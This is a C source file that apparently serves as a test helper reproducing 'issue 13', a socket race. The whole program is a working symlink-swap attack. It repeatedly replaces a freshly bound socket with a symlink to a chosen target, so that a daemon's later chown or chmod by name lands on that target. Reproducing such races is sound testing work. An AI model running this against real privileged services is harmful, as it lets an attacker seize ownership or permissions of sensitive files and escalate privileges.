/* sock_swap PATH TARGET SECONDS: the attacker of issue 13's socket race.
 *
 * Run as the user who owns PATH's directory. Spins on lstat(PATH); each
 * time a socket appears there, atomically renames a symlink to TARGET
 * over it, the window in which a daemon that chown()s / chmod()s PATH by
 * name after bind() would change TARGET instead. Prints "swaps N" (how
 * many sockets it replaced) at the end; exits 0, or 2 on usage or setup
 * errors. Bounded by SECONDS. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	char spare[4096];
	unsigned long swaps = 0;
	double end;
	struct stat st;

	if (argc != 4 || snprintf(spare, sizeof(spare), "%s.swap", argv[1]) >= (int)sizeof(spare)) {
		fprintf(stderr, "usage: sock_swap PATH TARGET SECONDS\n");
		return 2;
	}
	end = now_s() + atof(argv[3]);
	unlink(spare);
	if (symlink(argv[2], spare) < 0) {
		perror("sock_swap: symlink");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("spinning\n");
	for (unsigned long spins = 0; (spins & 1023) || now_s() < end; spins++) {
		if (lstat(argv[1], &st) < 0 || !S_ISSOCK(st.st_mode))
			continue;
		if (rename(spare, argv[1]) == 0) {
			swaps++;
			printf("swap %lu\n", swaps);
			if (symlink(argv[2], spare) < 0 && errno != EEXIST) {
				perror("sock_swap: symlink");
				return 2;
			}
		}
	}
	unlink(spare);
	printf("swaps %lu\n", swaps);
	return 0;
}
